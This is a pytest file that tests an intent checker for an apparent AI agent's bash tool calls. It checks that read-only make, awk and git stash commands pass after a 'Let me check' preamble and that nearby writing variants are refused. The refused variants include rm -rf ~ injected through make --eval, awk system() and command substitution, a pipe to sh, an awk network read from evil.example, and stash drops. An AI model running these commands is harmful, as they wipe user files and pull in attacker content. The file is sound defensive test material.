"""A make that only asks, an awk that only prints, a stash that is only listed (h13b, issue 25):
each reads, so a verb of finding out grounds it as it grounds ``ls`` or ``grep``; beside each,
the nearest line that writes, builds, runs or changes state stays refused."""

from __future__ import annotations

from functools import partial

import pytest

from leakcall.intent.dryruns import looks_only
from leakcall.intent.kinds import command_kinds

from ..intent_sets import expect_recovered, expect_refused, recover_command, string_tool

BASH = [string_tool("bash", "Executes a given bash command and returns its output.",
                    "command", "description")]
_recover = partial(recover_command, tools=BASH)


TARGETS = "make -qp 2>/dev/null | awk -F: '/^[a-zA-Z0-9_-]+:/ && !/^\\./ {print $1}' | sort -u"
TOTALS = "awk -F, 'NR > 1 {s += $2} END {print s}' data.csv"
SUMS = "awk -F, '{s += $2} END {print s}' data.csv"


@pytest.mark.parametrize(("preamble", "good", "bad"), [
    # make: a dry run or a question, no goal; "-p" alone builds the default goal
    ("Let me check the available make targets first.", TARGETS, TARGETS.replace("-qp", "-p")),
    ("Let me check the available make targets first.", TARGETS,
     TARGETS.replace("-qp", "-qp -f /tmp/evil.mk")),
    ("Let me check the available make targets first.", TARGETS,
     TARGETS.replace("-qp", "-qp --eval='x:=$(shell rm -rf ~)'")),
    ("Let me check the available make targets first.", TARGETS, TARGETS + "; rm -rf build"),
    ("Let me check the available make targets first.", TARGETS,
     TARGETS + " > targets.txt"),
    ("Let me check the make recipes.", "make -n", "make"),
    ("Let me check the make recipes.", "make -n", "make -n deploy"),
    ("Let me check the make recipes.", "make --dry-run", "make --dry-run CC=/tmp/x"),
    # awk: prints only; a write, a pipe, a system call, a program file, in place, a load
    ("Let me check the column sums.", SUMS, SUMS.replace("print s", 'print s > "data.csv"')),
    ("Let me check the column sums.", SUMS, SUMS.replace("print s", 'print s | "sh"')),
    ("Let me check the column sums.", SUMS, SUMS.replace("print s", 'system("rm -rf ~")')),
    ("Let me check the column sums.", SUMS, "awk -f /tmp/sums.awk data.csv"),
    ("Let me check the column sums.", SUMS,
     SUMS.replace("{s", 'BEGIN {getline x < "/inet/tcp/0/evil.example/80"} {s')),
    ("Let me check the column sums.", SUMS, SUMS.replace("awk -F,", "gawk -i inplace -F,")),
    ("Let me check the column sums.", SUMS, SUMS.replace("{s", '@load "filefuncs"; {s')),
    ("Let me check the column sums.", SUMS, SUMS + " > sums.txt"),
    ("Let me check the column sums.", SUMS, SUMS.replace("data.csv", "$(rm -rf ~)")),
    ("Let me check the column sums.", SUMS, SUMS + " && sed -i 's/a/b/' data.csv"),
    ("Let me check the column sums.", SUMS, "find . -name '*.csv' -delete; " + SUMS),
    ("Let me check the column sums.", SUMS, "cat data.csv > old.csv; " + SUMS),
    # a stash listed or shown is looked at; any other stash step changes the tree
    ("Let me check the stash.", "git stash list", "git stash drop"),
    ("Let me check the stash.", "git stash list", "git stash -- list"),
    ("Let me check the stash.", "git stash list", "git stash --include-untracked list"),
    ("Let me check the stash.", "git stash show -p", "git stash pop"),
    ("Let me check status before proceeding.", "git status && git stash list",
     "git status && git stash clear"),
])
def test_a_look_verb_grounds_only_a_line_that_looks(preamble: str, good: str, bad: str) -> None:
    expect_recovered(_recover(preamble, good), good)
    expect_refused(_recover(preamble, bad), bad)


def test_a_comparison_in_an_awk_program_is_refused_with_the_writes() -> None:
    """``$1 > 5`` and ``print > "f"`` share a character: both keep awk's run (the safe side)."""
    assert "read" not in command_kinds(TOTALS)
    assert command_kinds(SUMS) == {"read"}


@pytest.mark.parametrize(("words", "looks"), [
    (["make", "-qp"], True),
    (["make", "-n", "2>/dev/null"], True),
    (["make", "-p"], False),
    (["make", "-qp", ">targets.txt"], False),
    (["make", "-n", "install"], False),
    (["awk", "{print}", "f"], True),
    (["awk", "-F:", "-v", "x=1", "{print $1, x}", "f"], True),
    (["awk", "-e", "{print}", "f"], True),
    (["awk", "-e", "{print}", "-e", "BEGIN {system(\"id\")}", "f"], False),
    (["awk", "1>&2", "{system(\"id\")}"], False),
    (["awk", "--load=x", "{print}"], False),
    (["awk"], False),
    (["sed", "-n", "1p"], False),  # a sed's form is ``sedscripts``'
])
def test_the_closed_forms(words: list[str], looks: bool) -> None:
    assert looks_only(words[0], words) is looks
